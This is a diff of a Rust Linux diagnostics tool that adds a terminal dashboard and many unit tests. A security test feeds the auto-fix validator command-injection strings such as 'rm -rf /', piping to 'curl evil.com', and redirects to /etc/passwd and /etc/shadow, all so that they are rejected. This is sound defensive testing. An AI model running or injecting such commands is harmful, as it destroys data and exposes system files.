+        Some(KeyCode::Up | KeyCode::Char('k')) => selected.saturating_sub(1),
+        Some(KeyCode::Down | KeyCode::Char('j')) => selected + 1,
+        _ => selected,
+    };
+    moved.min(len.saturating_sub(1))
+}
+
+fn sparkline(title: String, data: &[u64], color: ratatui::style::Color) -> Sparkline<'_> {
+    Sparkline::default()
+        .block(Block::default().title(title).borders(Borders::ALL))
+        .data(data)
+        .style(Style::default().fg(color))
+}
+
+fn draw_tui(
+    frame: &mut Frame,
+    metrics: &Metrics,
+    findings: &[Finding],
+    history: &TuiHistory,
+    selected: usize,
+    status: &str,
+) {
+    let chunks = Layout::default()
+        .direction(Direction::Vertical)
+        .margin(1)
+        .constraints([
+            Constraint::Length(7), // Graphs
+            Constraint::Length(7), // GPU graphs
+            Constraint::Length(8), // Vitals
+            Constraint::Min(10),   // Findings
+        ])
+        .split(frame.area());
+
+    // Graph section (split horizontally for CPU and RAM)
+    let graph_chunks = Layout::default()
+        .direction(Direction::Horizontal)
+        .constraints([Constraint::Percentage(50), Constraint::Percentage(50)])
+        .split(chunks[0]);
+
+    let (cpu_color, ram_color) = theme::current().sparklines();
+
+    // CPU sparkline
+    let cpu_data: Vec<u64> = history.cpu.iter().copied().collect();
+    let cpu_title = format!("CPU: {}", cpu_percent_label(metrics));
+    frame.render_widget(sparkline(cpu_title, &cpu_data, cpu_color), graph_chunks[0]);
+
+    // RAM sparkline
+    let ram_data: Vec<u64> = history.ram.iter().copied().collect();
+    let ram_title = format!("RAM: {:.1}%", metrics.mem_usage);
+    frame.render_widget(sparkline(ram_title, &ram_data, ram_color), graph_chunks[1]);
+
+    // GPU sparklines, same colors as the row above
+    match &metrics.gpu {
+        Some(gpu) => {
+            let gpu_chunks = Layout::default()
+                .direction(Direction::Horizontal)
+                .constraints([Constraint::Percentage(50), Constraint::Percentage(50)])
+                .split(chunks[1]);
+            let reading = |value: Option<f32>, unit: &str| {
+                value.map_or_else(|| "n/a".to_string(), |v| format!("{v:.0}{unit}"))
+            };
+            let temp_data: Vec<u64> = history.gpu_temp.iter().copied().collect();
+            let temp_title = format!("GPU temp: {}", reading(gpu.temperature, "°C"));
+            frame.render_widget(sparkline(temp_title, &temp_data, cpu_color), gpu_chunks[0]);
+            let util_data: Vec<u64> = history.gpu_util.iter().copied().collect();
+            let util_title = format!("GPU load: {}", reading(gpu.utilization, "%"));
+            frame.render_widget(sparkline(util_title, &util_data, ram_color), gpu_chunks[1]);
+        }
+        None => frame.render_widget(
+            Block::default().title("GPU: n/a").borders(Borders::ALL),
+            chunks[1],
+        ),
+    }
+
+    // Vitals section
+    let stats = format!(
+        "Disk: {disk:.1}%\nTemp: {temp}\nFan: {fan}\nGPU: {gpu}",
+        disk = metrics.disk_full_percent,
+        temp = metrics
+            .temperature_c
+            .map(|t| format!("{t:.1}°C"))
+            .unwrap_or_else(|| "n/a".into()),
+        fan = metrics
+            .fan_speed_rpm
+            .map(|f| format!("{f:.0} RPM"))
+            .unwrap_or_else(|| "n/a".into()),
+        gpu = metrics
+            .gpu
+            .as_ref()
+            .and_then(|g| g.temperature)
+            .map(|t| format!("{t:.1}°C"))
+            .unwrap_or_else(|| "n/a".into()),
+    );
+
+    let stats_block = Paragraph::new(stats).block(
+        Block::default()
+            .title(format!("Vitals — {status}"))
+            .borders(Borders::ALL),
+    );
+    frame.render_widget(stats_block, chunks[2]);
+
+    // Findings section: selectable list, details of the highlighted one beside it
+    let shown = top_findings(findings, TUI_FINDINGS_SHOWN);
+    if shown.is_empty() {
+        let findings_block = Paragraph::new(t!("all_good").to_string())
+            .block(Block::default().title("Findings").borders(Borders::ALL));
+        frame.render_widget(findings_block, chunks[3]);
+        return;
+    }
+    let finding_chunks = Layout::default()
+        .direction(Direction::Horizontal)
+        .constraints([Constraint::Percentage(50), Constraint::Percentage(50)])
+        .split(chunks[3]);
+
+    let items: Vec<ListItem> = shown
+        .iter()
+        .map(|finding| ListItem::new(format!("{} — {}", finding.severity, finding.message)))
+        .collect();
+    let list = List::new(items)
+        .block(
+            Block::default()
+                .title("Findings (↑/↓, j/k)")
+                .borders(Borders::ALL),
+        )
+        .highlight_style(Style::default().add_modifier(Modifier::REVERSED))
+        .highlight_symbol("> ");
+    let mut state = ListState::default().with_selected(Some(selected));
+    frame.render_stateful_widget(list, finding_chunks[0], &mut state);
+
+    let details = shown
+        .get(selected)
+        .map(|finding| format!("{}\n\n{}", finding.message, finding.solution))
+        .unwrap_or_default();
+    let details_block = Paragraph::new(details)
+        .wrap(Wrap { trim: false })
+        .block(Block::default().title("Solution").borders(Borders::ALL));
+    frame.render_widget(details_block, finding_chunks[1]);
+}
+
+fn user_home_dir() -> Option<PathBuf> {
+    env::var("HOME")
+        .map(PathBuf::from)
+        .ok()
+        .or_else(|| env::var("USERPROFILE").map(PathBuf::from).ok())
+}
+
+const RULES_PATH: &str = "rules.toml";
+/// Extra rule files, relative to the home directory
+const RULES_DIR: &str = ".config/why/rules.d";
+/// System-wide extra rule files, read before the user's
+const SYSTEM_RULES_DIR: &str = "/etc/why/rules.d";
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A finding as `evaluate_rules` builds it for `rule`; tests override the
+    /// fields they are about with `..test_finding(..)`
+    fn test_finding(rule: &str, severity: u8) -> Finding {
+        Finding {
+            id: rule.to_string(),
+            severity: format!("{} {severity}", severity_emoji(severity)),
+            severity_value: severity,
+            message: format!("{rule} fired"),
+            solution: "n/a".to_string(),
+            auto_fix: None,
+            rule_name: rule.to_string(),
+            actionable: true,
+            categories: Vec::new(),
+        }
+    }
+
+    /// History DB in its own temp directory, removed with its WAL files
+    /// when dropped (declare it before the connections that use it)
+    struct TempHistoryDb {
+        dir: PathBuf,
+        path: PathBuf,
+    }
+
+    impl Drop for TempHistoryDb {
+        fn drop(&mut self) {
+            let _ = fs::remove_dir_all(&self.dir);
+        }
+    }
+
+    fn temp_history_db(name: &str) -> TempHistoryDb {
+        let dir = std::env::temp_dir().join(format!("why-{name}-{}", std::process::id()));
+        let _ = fs::remove_dir_all(&dir);
+        fs::create_dir_all(&dir).unwrap();
+        TempHistoryDb {
+            path: dir.join(HISTORY_FILE),
+            dir,
+        }
+    }
+
+    #[test]
+    fn test_parse_trigger_single_condition() {
+        let trigger = parse_trigger("cpu>60");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 1);
+        match &conditions[0] {
+            Condition::CpuGreater(val) => assert_eq!(*val, 60.0),
+            _ => panic!("Expected CpuGreater condition"),
+        }
+    }
+
+    #[test]
+    fn test_parse_trigger_multiple_conditions() {
+        let trigger = parse_trigger("cpu>80 && mem>90");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 2);
+        match &conditions[0] {
+            Condition::CpuGreater(val) => assert_eq!(*val, 80.0),
+            _ => panic!("Expected CpuGreater condition"),
+        }
+        match &conditions[1] {
+            Condition::MemGreater(val) => assert_eq!(*val, 90.0),
+            _ => panic!("Expected MemGreater condition"),
+        }
+    }
+
+    #[test]
+    fn test_parse_trigger_less_than_conditions() {
+        let trigger = parse_trigger("cpu<5 && mem<20 && total_ram>16384");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 3);
+        match &conditions[0] {
+            Condition::CpuLess(val) => assert_eq!(*val, 5.0),
+            _ => panic!("Expected CpuLess condition"),
+        }
+        match &conditions[1] {
+            Condition::MemLess(val) => assert_eq!(*val, 20.0),
+            _ => panic!("Expected MemLess condition"),
+        }
+        match &conditions[2] {
+            Condition::TotalRamGreater(val) => assert_eq!(*val, 16384),
+            _ => panic!("Expected TotalRamGreater condition"),
+        }
+
+        let trigger = parse_trigger("total_ram<4096");
+        assert!(matches!(
+            trigger.conditions()[0],
+            Condition::TotalRamLess(4096)
+        ));
+    }
+
+    #[test]
+    fn test_cpu_less_condition_holds() {
+        let idle = Metrics {
+            cpu_usage: Some(2.0),
+            ..Default::default()
+        };
+        let busy = Metrics {
+            cpu_usage: Some(60.0),
+            ..Default::default()
+        };
+        assert!(condition_holds(&Condition::CpuLess(5.0), &idle, None));
+        assert!(!condition_holds(&Condition::CpuLess(5.0), &busy, None));
+    }
+
+    #[test]
+    fn test_parse_trigger_process_condition() {
+        let trigger = parse_trigger("process=chrome");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 1);
+        match &conditions[0] {
+            Condition::ProcessContains(name) => assert_eq!(name, "chrome"),
+            _ => panic!("Expected ProcessContains condition"),
+        }
+    }
+
+    #[test]
+    fn test_parse_trigger_disk_condition() {
+        let trigger = parse_trigger("disk_full>90");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 1);
+        match &conditions[0] {
+            Condition::DiskFullGreater(val) => assert_eq!(*val, 90.0),
+            _ => panic!("Expected DiskFullGreater condition"),
+        }
+    }
+
+    #[test]
+    fn test_parse_trigger_gpu_vendor() {
+        let trigger = parse_trigger("gpu_vendor=nvidia");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 1);
+        match &conditions[0] {
+            Condition::GpuVendorEquals(vendor) => assert_eq!(vendor, "nvidia"),
+            _ => panic!("Expected GpuVendorEquals condition"),
+        }
+    }
+
+    #[test]
+    fn test_parse_trigger_gpu_temp() {
+        let trigger = parse_trigger("gpu_temp>85");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 1);
+        match &conditions[0] {
+            Condition::GpuTempGreater(val) => assert_eq!(*val, 85.0),
+            _ => panic!("Expected GpuTempGreater condition"),
+        }
+    }
+
+    #[test]
+    fn test_parse_trigger_gpu_mem_used() {
+        let trigger = parse_trigger("gpu_mem_used_mb>7000 && gpu_mem_util>90");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 2);
+        match &conditions[0] {
+            Condition::GpuMemUsedGreater(val) => assert_eq!(*val, 7000.0),
+            _ => panic!("Expected GpuMemUsedGreater condition"),
+        }
+        assert!(matches!(conditions[1], Condition::GpuMemUtilGreater(_)));
+    }
+
+    #[test]
+    fn test_parse_trigger_complex() {
+        let trigger = parse_trigger("gpu_vendor=amd && gpu_temp>80 && gpu_util>95");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 3);
+    }
+
+    #[test]
+    fn test_condition_holds_cpu() {
+        let metrics = Metrics {
+            cpu_usage: Some(75.0),
+            mem_usage: 50.0,
+            total_ram_mb: 16000,
+            disk_full_percent: 50.0,
+            filesystem: None,
+            snap_loops: None,
+            flatpak_unused: None,
+            battery_drain_w: None,
+            wifi_channel_count: None,
+            wifi_signal_dbm: None,
+            fan_speed_rpm: None,
+            temperature_c: None,
+            wayland_vs_x11: None,
+            docker_dangling: None,
+            process_names: vec![],
+            process_count: 0,
+            pipewire_latency_ms: None,
+            firefox_soft_render: None,
+            zfs_arc_full_percent: None,
+            luks_device_count: None,
+            gpu: None,
+            prime_offload_enabled: Some(false),
+            gamescope_running: Some(false),
+            steam_running: Some(false),
+            proton_failure_detected: Some(false),
+            vulkan_loader_missing: Some(false),
+            ..Default::default()
+        };
+
+        let condition = Condition::CpuGreater(60.0);
+        assert!(condition_holds(&condition, &metrics, None));
+
+        let condition = Condition::CpuGreater(80.0);
+        assert!(!condition_holds(&condition, &metrics, None));
+    }
+
+    #[test]
+    fn test_condition_holds_memory() {
+        let metrics = Metrics {
+            cpu_usage: Some(50.0),
+            mem_usage: 85.0,
+            total_ram_mb: 16000,
+            disk_full_percent: 50.0,
+            filesystem: None,
+            snap_loops: None,
+            flatpak_unused: None,
+            battery_drain_w: None,
+            wifi_channel_count: None,
+            wifi_signal_dbm: None,
+            fan_speed_rpm: None,
+            temperature_c: None,
+            wayland_vs_x11: None,
+            docker_dangling: None,
+            process_names: vec![],
+            process_count: 0,
+            pipewire_latency_ms: None,
+            firefox_soft_render: None,
+            zfs_arc_full_percent: None,
+            luks_device_count: None,
+            gpu: None,
+            prime_offload_enabled: Some(false),
+            gamescope_running: Some(false),
+            steam_running: Some(false),
+            proton_failure_detected: Some(false),
+            vulkan_loader_missing: Some(false),
+            ..Default::default()
+        };
+
+        let condition = Condition::MemGreater(80.0);
+        assert!(condition_holds(&condition, &metrics, None));
+
+        let condition = Condition::MemGreater(90.0);
+        assert!(!condition_holds(&condition, &metrics, None));
+    }
+
+    #[test]
+    fn test_condition_holds_process() {
+        let metrics = Metrics {
+            cpu_usage: Some(50.0),
+            mem_usage: 50.0,
+            total_ram_mb: 16000,
+            disk_full_percent: 50.0,
+            filesystem: None,
+            snap_loops: None,
+            flatpak_unused: None,
+            battery_drain_w: None,
+            wifi_channel_count: None,
+            wifi_signal_dbm: None,
+            fan_speed_rpm: None,
+            temperature_c: None,
+            wayland_vs_x11: None,
+            docker_dangling: None,
+            process_names: vec![
+                "systemd".to_string(),
+                "chrome".to_string(),
+                "firefox".to_string(),
+            ],
+            process_count: 3,
+            pipewire_latency_ms: None,
+            firefox_soft_render: None,
+            zfs_arc_full_percent: None,
+            luks_device_count: None,
+            gpu: None,
+            prime_offload_enabled: Some(false),
+            gamescope_running: Some(false),
+            steam_running: Some(false),
+            proton_failure_detected: Some(false),
+            vulkan_loader_missing: Some(false),
+            ..Default::default()
+        };
+
+        let condition = Condition::ProcessContains("chrome".to_string());
+        assert!(condition_holds(&condition, &metrics, None));
+
+        let condition = Condition::ProcessContains("spotify".to_string());
+        assert!(!condition_holds(&condition, &metrics, None));
+    }
+
+    #[test]
+    fn test_condition_holds_gpu_temp() {
+        let gpu = GpuDetails {
+            vendor: "nvidia".to_string(),
+            model: Some("RTX 3080".to_string()),
+            driver: Some("535.98".to_string()),
+            temperature: Some(82.0),
+            utilization: Some(95.0),
+            memory_total_mb: Some(10240.0),
+            memory_used_mb: Some(8192.0),
+            fan_speed_percent: Some(75.0),
+        };
+
+        let metrics = Metrics {
+            cpu_usage: Some(50.0),
+            mem_usage: 50.0,
+            total_ram_mb: 16000,
+            disk_full_percent: 50.0,
+            filesystem: None,
+            snap_loops: None,
+            flatpak_unused: None,
+            battery_drain_w: None,
+            wifi_channel_count: None,
+            wifi_signal_dbm: None,
+            fan_speed_rpm: None,
+            temperature_c: None,
+            wayland_vs_x11: None,
+            docker_dangling: None,
+            process_names: vec![],
+            process_count: 0,
+            pipewire_latency_ms: None,
+            firefox_soft_render: None,
+            zfs_arc_full_percent: None,
+            luks_device_count: None,
+            gpu: Some(gpu),
+            prime_offload_enabled: Some(false),
+            gamescope_running: Some(false),
+            steam_running: Some(false),
+            proton_failure_detected: Some(false),
+            vulkan_loader_missing: Some(false),
+            ..Default::default()
+        };
+
+        let condition = Condition::GpuTempGreater(80.0);
+        assert!(condition_holds(&condition, &metrics, None));
+
+        let condition = Condition::GpuTempGreater(85.0);
+        assert!(!condition_holds(&condition, &metrics, None));
+    }
+
+    #[test]
+    fn test_condition_holds_gpu_mem_used() {
+        let gpu = |used: Option<f32>| GpuDetails {
+            vendor: "amd".to_string(),
+            model: None,
+            driver: None,
+            temperature: None,
+            utilization: None,
+            memory_total_mb: Some(8192.0),
+            memory_used_mb: used,
+            fan_speed_percent: None,
+        };
+        let metrics = |used| Metrics {
+            gpu: Some(gpu(used)),
+            ..Default::default()
+        };
+        let condition = Condition::GpuMemUsedGreater(7000.0);
+
+        assert!(condition_holds(&condition, &metrics(Some(7500.0)), None));
+        assert!(!condition_holds(&condition, &metrics(Some(6000.0)), None));
+        assert!(!condition_holds(&condition, &metrics(None), None));
+        assert!(!condition_holds(&condition, &Metrics::default(), None));
+    }
+
+    #[test]
+    fn test_condition_holds_gpu_vendor() {
+        let gpu = GpuDetails {
+            vendor: "amd".to_string(),
+            model: Some("RX 7900 XTX".to_string()),
+            driver: Some("mesa 24.0".to_string()),
+            temperature: Some(70.0),
+            utilization: Some(50.0),
+            memory_total_mb: Some(24576.0),
+            memory_used_mb: Some(4096.0),
+            fan_speed_percent: Some(60.0),
+        };
+
+        let metrics = Metrics {
+            cpu_usage: Some(50.0),
+            mem_usage: 50.0,
+            total_ram_mb: 16000,
+            disk_full_percent: 50.0,
+            filesystem: None,
+            snap_loops: None,
+            flatpak_unused: None,
+            battery_drain_w: None,
+            wifi_channel_count: None,
+            wifi_signal_dbm: None,
+            fan_speed_rpm: None,
+            temperature_c: None,
+            wayland_vs_x11: None,
+            docker_dangling: None,
+            process_names: vec![],
+            process_count: 0,
+            pipewire_latency_ms: None,
+            firefox_soft_render: None,
+            zfs_arc_full_percent: None,
+            luks_device_count: None,
+            gpu: Some(gpu),
+            prime_offload_enabled: Some(false),
+            gamescope_running: Some(false),
+            steam_running: Some(false),
+            proton_failure_detected: Some(false),
+            vulkan_loader_missing: Some(false),
+            ..Default::default()
+        };
+
+        let condition = Condition::GpuVendorEquals("amd".to_string());
+        assert!(condition_holds(&condition, &metrics, None));
+
+        let condition = Condition::GpuVendorEquals("nvidia".to_string());
+        assert!(!condition_holds(&condition, &metrics, None));
+    }
+
+    #[test]
+    fn test_condition_holds_steam_running() {
+        let metrics = Metrics {
+            cpu_usage: Some(50.0),
+            mem_usage: 50.0,
+            total_ram_mb: 16000,
+            disk_full_percent: 50.0,
+            filesystem: None,
+            snap_loops: None,
+            flatpak_unused: None,
+            battery_drain_w: None,
+            wifi_channel_count: None,
+            wifi_signal_dbm: None,
+            fan_speed_rpm: None,
+            temperature_c: None,
+            wayland_vs_x11: None,
+            docker_dangling: None,
+            process_names: vec![],
+            process_count: 0,
+            pipewire_latency_ms: None,
+            firefox_soft_render: None,
+            zfs_arc_full_percent: None,
+            luks_device_count: None,
+            gpu: None,
+            prime_offload_enabled: Some(false),
+            gamescope_running: Some(false),
+            steam_running: Some(true),
+            proton_failure_detected: Some(false),
+            vulkan_loader_missing: Some(false),
+            ..Default::default()
+        };
+
+        let condition = Condition::SteamRunning(true);
+        assert!(condition_holds(&condition, &metrics, None));
+
+        let condition = Condition::SteamRunning(false);
+        assert!(!condition_holds(&condition, &metrics, None));
+    }
+
+    // Security Tests
+    #[test]
+    fn test_is_safe_auto_fix_blocks_command_injection() {
+        // Test shell metacharacter blocking
+        assert!(!is_safe_auto_fix("snap remove; rm -rf /"));
+        assert!(!is_safe_auto_fix("snap remove | curl evil.com"));
+        assert!(!is_safe_auto_fix("snap remove && malicious"));
+        assert!(!is_safe_auto_fix("snap remove `whoami`"));
+        assert!(!is_safe_auto_fix("snap remove $HOME"));
+        assert!(!is_safe_auto_fix("snap remove > /etc/passwd"));
+        assert!(!is_safe_auto_fix("snap remove < /etc/shadow"));
+        assert!(!is_safe_auto_fix("snap remove\nwhoami"));
+        assert!(!is_safe_auto_fix("snap remove(malicious)"));
+        assert!(!is_safe_auto_fix("snap remove{bad}"));
+    }
+
+    #[test]
+    fn test_is_safe_auto_fix_allows_safe_commands() {
+        // Test exact matches
+        assert!(is_safe_auto_fix("bluetoothctl power off"));
+        assert!(is_safe_auto_fix("bluetoothctl power on"));
+        assert!(is_safe_auto_fix("balooctl"));
+        assert!(is_safe_auto_fix("docker image prune"));
+
+        // Test prefix with space (arguments)
+        assert!(is_safe_auto_fix("snap remove old-package"));
+        assert!(is_safe_auto_fix("flatpak uninstall com.example.App"));
+        assert!(is_safe_auto_fix("systemctl --user stop baloo"));
+    }
+
+    #[test]
+    fn test_is_safe_auto_fix_blocks_prefix_without_space() {
+        // Malicious commands that start with whitelisted prefix but no space
+        assert!(!is_safe_auto_fix("snap;malicious"));
+        assert!(!is_safe_auto_fix("balooctl;evil"));
+    }
+
+    #[test]
+    fn test_gpu_memory_utilization_edge_cases() {
+        let gpu = GpuDetails {
+            vendor: "test".into(),
+            model: None,
+            driver: None,
+            temperature: None,
+            utilization: None,
+            memory_total_mb: Some(0.0),
+            memory_used_mb: Some(1000.0),
+            fan_speed_percent: None,
+        };
+        // Should return None for zero total memory
+        assert_eq!(gpu.memory_utilization(), None);
+
+        let gpu2 = GpuDetails {
+            vendor: "test".into(),
+            model: None,
+            driver: None,
+            temperature: None,
+            utilization: None,
+            memory_total_mb: Some(0.0001), // Very small value
+            memory_used_mb: Some(100.0),
+            fan_speed_percent: None,
+        };
+        // Should return None for values below threshold
+        assert_eq!(gpu2.memory_utilization(), None);
+
+        let gpu3 = GpuDetails {
+            vendor: "test".into(),
+            model: None,
+            driver: None,
+            temperature: None,
+            utilization: None,
+            memory_total_mb: Some(10240.0),
+            memory_used_mb: Some(5120.0),
+            fan_speed_percent: None,
+        };
+        // Should return proper percentage
+        assert_eq!(gpu3.memory_utilization(), Some(50.0));
+    }
+
+    #[test]
+    fn test_parse_trigger_empty_and_malformed() {
+        // Empty string
+        let trigger = parse_trigger("");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 0);
+
+        // Only whitespace
+        let trigger = parse_trigger("   ");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 0);
+
+        // Malformed (no operator)
+        let trigger = parse_trigger("cpu60");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 0);
+
+        // Invalid operator
+        let trigger = parse_trigger("cpu<>60");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 0);
     }
-    Ok(lines)
-}
 
-fn gather_zfs_health() -> SectionResult {
-    if !is_command_available("zpool") {
-        return Err(t!("storage_zfs_missing").to_string());
+    #[test]
+    fn test_parse_os_release() {
+        let text = "NAME=\"Ubuntu\"\nVERSION_ID=\"20.04\"\nID=ubuntu\nPRETTY_NAME=\"Ubuntu 20.04.6 LTS\"\n";
+        let release = parse_os_release(text);
+        assert_eq!(release.id, "ubuntu");
+        assert_eq!(release.version_id.as_deref(), Some("20.04"));
+        assert_eq!(release.pretty_name.as_deref(), Some("Ubuntu 20.04.6 LTS"));
     }
-    let output = Command::new("zpool").arg("status").output();
-    let out = match output {
-        Ok(out) if out.status.success() => out,
-        Ok(out) => return Err(String::from_utf8_lossy(&out.stderr).trim().to_string()),
-        Err(_) => return Err(t!("storage_zfs_missing").to_string()),
-    };
-    let text = String::from_utf8_lossy(&out.stdout);
-    if text.to_ascii_lowercase().contains("no pools available") {
-        return Err(t!("storage_zfs_clean").to_string());
+
+    #[test]
+    fn test_release_eol_lookup() {
+        let release = parse_os_release("ID=ubuntu\nVERSION_ID=20.04\n");
+        let today = NaiveDate::from_ymd_opt(2025, 11, 1).unwrap();
+        let eol = release_eol_date(&release, &[]).expect("20.04 is in the bundled table");
+        assert!(eol < today);
+
+        let release = parse_os_release("ID=ubuntu\nVERSION_ID=24.04\n");
+        assert!(release_eol_date(&release, &[]).unwrap() > today);
+
+        // Config entries override and extend the bundled table
+        let extra = vec![config::EolEntry {
+            id: "myos".into(),
+            version: "1".into(),
+            eol: "2020-01-01".into(),
+        }];
+        let release = parse_os_release("ID=myos\nVERSION_ID=1\n");
+        assert!(release_eol_date(&release, &extra).unwrap() < today);
+        assert_eq!(release_eol_date(&release, &[]), None);
     }
-    #[derive(Default)]
-    struct Pool {
-        name: String,
-        state: Option<String>,
-        errors: Option<String>,
+
+    #[test]
+    fn test_parse_coredump_frames() {
+        let info = "           PID: 4242 (crashy)
+        Signal: 11 (SEGV)
+     Timestamp: Tue 2025-11-18 10:02:11 WET
+    Executable: /usr/bin/crashy
+
+                Stack trace of thread 4242:
+                #0  0x000055d1c2a1b139 do_work (crashy + 0x1139)
+                #1  0x000055d1c2a1b160 main (crashy + 0x1160)
+                #2  0x00007f1c2d42a1ca __libc_start_call_main (libc.so.6 + 0x2a1ca)
+
+                Stack trace of thread 4243:
+                #0  0x00007f1c2d4a8e2c futex_wait (libc.so.6 + 0x8ee2c)
+";
+        let frames = parse_frame_summary(info, 8);
+        assert_eq!(
+            frames,
+            vec![
+                "#0 do_work (crashy + 0x1139)",
+                "#1 main (crashy + 0x1160)",
+                "#2 __libc_start_call_main (libc.so.6 + 0x2a1ca)",
+            ]
+        );
+        assert_eq!(parse_frame_summary(info, 1).len(), 1);
+
+        let metadata = parse_coredump_metadata(info);
+        assert!(metadata.contains(&("Signal".to_string(), "11 (SEGV)".to_string())));
+        assert!(metadata.contains(&("Executable".to_string(), "/usr/bin/crashy".to_string())));
+
+        let gdb = "#0  0x00007f0a in raise () from /lib64/libc.so.6\n#1  0x00007f0b in abort () from /lib64/libc.so.6\n";
+        assert_eq!(
+            parse_frame_summary(gdb, 8),
+            vec![
+                "#0 raise () from /lib64/libc.so.6",
+                "#1 abort () from /lib64/libc.so.6"
+            ]
+        );
     }
-    let mut pools = Vec::new();
-    let mut current: Option<Pool> = None;
-    for line in text.lines() {
-        let trimmed = line.trim();
-        if let Some(name) = trimmed.strip_prefix("pool:") {
-            if let Some(pool) = current.take() {
-                pools.push(pool);
-            }
-            current = Some(Pool {
-                name: name.trim().to_string(),
-                ..Default::default()
-            });
-        } else if let Some(state) = trimmed.strip_prefix("state:") {
-            if let Some(pool) = current.as_mut() {
-                pool.state = Some(state.trim().to_string());
-            }
-        } else if trimmed.starts_with("errors:") {
-            if let Some(pool) = current.as_mut() {
-                pool.errors = Some(trimmed["errors:".len()..].trim().to_string());
-            }
-        }
+
+    #[test]
+    fn test_log_ignore_suppresses_log_finding() {
+        let logs = "kernel: usb 1-1: reset high-speed USB device\nkernel: EXT4-fs mounted";
+        let condition = Condition::LogContains(Regex::new("usb .*reset").unwrap());
+        let metrics = Metrics::default();
+        assert!(condition_holds(&condition, &metrics, Some(logs)));
+
+        let config = config::parse_config(r"log_ignore = ['usb \d+-\d+: reset']").unwrap();
+        let filtered = strip_ignored_log_lines(logs, &config.log_ignore_patterns());
+        assert!(!condition_holds(&condition, &metrics, Some(&filtered)));
+        assert!(filtered.contains("EXT4-fs mounted"));
     }
-    if let Some(pool) = current {
-        pools.push(pool);
+
+    #[test]
+    fn test_conntrack_usage_condition() {
+        let usage = conntrack_usage_percent("262000\n", "262144\n").unwrap();
+        assert!(usage > 99.0);
+        assert_eq!(conntrack_usage_percent("10", "0"), None);
+        assert_eq!(conntrack_usage_percent("", "65536"), None);
+
+        let trigger = parse_trigger("conntrack_usage>90");
+        let conditions = trigger.conditions();
+        assert_eq!(conditions.len(), 1);
+        let metrics = Metrics {
+            conntrack_usage_percent: Some(usage),
+            ..Default::default()
+        };
+        assert!(condition_holds(conditions[0], &metrics, None));
+        assert!(!condition_holds(conditions[0], &Metrics::default(), None));
     }
-    if pools.is_empty() {
-        return Err(t!("storage_zfs_clean").to_string());
+
+    #[test]
+    fn test_extract_boot_warnings() {
+        let journal = "-- Boot 3f2c1b --
+Nov 20 08:01:02 host kernel: ACPI BIOS Error (bug): Could not resolve symbol
+Nov 20 08:01:05 host systemd[1]: Timed out waiting for device /dev/disk/by-uuid/abcd.
+Nov 20 08:01:05 host systemd[1]: Dependency failed for /home.
+Nov 20 08:01:09 host NetworkManager[812]: <warn>  [1700000] dhcp4 (wlan0): request timed out
+Nov 20 08:01:10 host pulseaudio[1200]: W: module-alsa-card: sink latency adjusted
+";
+        let lines = extract_boot_warnings(journal, 25);
+        assert_eq!(lines.len(), 5);
+        assert!(matches!(lines[1].level, InsightLevel::Critical));
+        assert!(lines[2].message.contains("Dependency failed for /home"));
+        assert!(matches!(lines[4].level, InsightLevel::Warning));
+
+        // Only the most recent entries are kept when over the limit
+        let tail = extract_boot_warnings(journal, 2);
+        assert_eq!(tail.len(), 2);
+        assert!(tail[1].message.contains("sink latency"));
+
+        assert!(extract_boot_warnings("-- No entries --\n", 25).is_empty());
     }
 
-    let mut lines = Vec::new();
-    for pool in pools {
-        let state = pool.state.unwrap_or_else(|| "unknown".into());
-        let errors = pool.errors.unwrap_or_else(|| "unknown".into());
-        let lower_state = state.to_ascii_lowercase();
-        let mut level = if lower_state.contains("degraded")
-            || lower_state.contains("fault")
-            || lower_state.contains("offline")
-            || lower_state.contains("unavail")
-        {
+    #[test]
+    fn test_parse_vulkan_summary_devices() {
+        let summary = "==========
+VULKANINFO
+==========
+
+Vulkan Instance Version: 1.3.275
+
+Devices:
+========
+GPU0:
+\tapiVersion         = 1.3.274
+\tdriverVersion      = 545.29.6.0
+\tvendorID           = 0x10de
+\tdeviceType         = PHYSICAL_DEVICE_TYPE_DISCRETE_GPU
+\tdeviceName         = NVIDIA GeForce RTX 4070
+\tdriverID           = DRIVER_ID_NVIDIA_PROPRIETARY
+\tdriverName         = NVIDIA
+GPU1:
+\tapiVersion         = 1.3.274
+\tvendorID           = 0x10005
+\tdeviceType         = PHYSICAL_DEVICE_TYPE_CPU
+\tdeviceName         = llvmpipe (LLVM 17.0.6, 256 bits)
+\tdriverName         = llvmpipe
+";
+        let devices = parse_vulkan_summary(summary);
+        assert_eq!(devices.len(), 2);
+        assert_eq!(devices[0].name, "NVIDIA GeForce RTX 4070");
+        assert!(devices[0].is_discrete());
+        assert!(devices[1].is_software());
+        assert_eq!(devices[1].driver.as_deref(), Some("llvmpipe"));
+        assert!(vulkan_device_insights(&devices)
+            .iter()
+            .all(|line| !matches!(line.level, InsightLevel::Warning | InsightLevel::Critical)));
+
+        // Only lavapipe enumerated: flagged as software-only
+        let software = vulkan_device_insights(&devices[1..]);
+        assert!(matches!(
+            software.last().unwrap().level,
             InsightLevel::Critical
-        } else {
-            InsightLevel::Good
+        ));
+
+        let trigger = parse_trigger("vulkan_device_count<1");
+        let conditions = trigger.conditions();
+        let metrics = Metrics {
+            vulkan_device_count: Some(0),
+            ..Default::default()
         };
-        if !errors.to_ascii_lowercase().contains("no known data errors")
-            && !errors.eq_ignore_ascii_case("none")
-            && !errors.eq_ignore_ascii_case("unknown")
-        {
-            if matches!(level, InsightLevel::Good) {
-                level = InsightLevel::Warning;
-            }
-        }
-        lines.push(InsightLine {
-            level,
-            message: format!("{}: state={} | errors={}", pool.name, state, errors),
-        });
+        assert!(condition_holds(conditions[0], &metrics, None));
+        assert!(!condition_holds(conditions[0], &Metrics::default(), None));
     }
-    Ok(lines)
-}
 
-fn btrfs_mount_points() -> Vec<String> {
